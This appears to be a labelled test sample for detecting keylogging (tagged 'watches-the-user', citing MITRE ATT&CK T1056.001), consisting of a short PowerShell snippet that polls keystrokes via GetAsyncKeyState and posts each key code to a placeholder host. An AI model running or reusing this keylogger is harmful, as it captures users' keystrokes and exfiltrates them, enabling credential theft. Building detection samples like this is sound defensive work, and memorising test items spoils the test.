# expect: watches-the-user | source: MITRE ATT&CK T1056.001
$k = Add-Type -MemberDefinition '[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int key);' -Name K -Namespace U -PassThru
for ($c = 8; $c -lt 190; $c++) { if ([U.K]::GetAsyncKeyState($c)) { Invoke-RestMethod http://files.example.invalid/in -Method Post -Body $c } }
